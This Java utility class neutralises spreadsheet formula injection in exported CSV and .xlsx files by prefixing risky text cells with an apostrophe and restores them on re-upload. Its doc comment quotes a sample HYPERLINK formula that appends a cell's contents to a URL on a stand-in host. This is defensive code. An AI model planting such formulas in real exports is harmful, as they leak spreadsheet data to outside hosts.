package org.leye.casework.shared;

/**
 * Text cells of the files we export (CSV and .xlsx) kept from being read as formulas, by OWASP's
 * rule against CSV injection: a text that starts with {@code =}, {@code +}, {@code -}, {@code @},
 * a tab or a carriage return gets a {@code '} in front, so that a major of
 * {@code =HYPERLINK("http://x.example/"&A1,"查看")} opens as text, not as a live link. Numbers
 * written as numbers are not text and are left alone (a negative count stays a number); a text
 * such as {@code "-1"} or {@code "+86 138…"} is prefixed like any other.
 *
 * <p>The file of rejected hand-over rows is corrected and uploaded again: {@link #restore} drops
 * the prefix on reading, so that the cell means what it meant before the export.
 */
public final class SpreadsheetCells {

    private SpreadsheetCells() {
    }

    /** The text with a {@code '} in front when a spreadsheet would read it as a formula; null stays null. */
    public static String neutralise(String text) {
        if (text != null && !text.isEmpty() && startsFormula(text.charAt(0))) {
            return "'" + text;
        }
        return text;
    }

    /**
     * The inverse of {@link #neutralise} for a cell read from an uploaded file: one leading
     * {@code '} is dropped when what follows it would have been neutralised. Anything else is
     * returned as it is (a name such as {@code 'Connor} keeps its apostrophe).
     */
    public static String restore(String cell) {
        if (cell != null && cell.length() >= 2 && cell.charAt(0) == '\'' && startsFormula(cell.charAt(1))) {
            return cell.substring(1);
        }
        return cell;
    }

    private static boolean startsFormula(char c) {
        return c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r';
    }
}
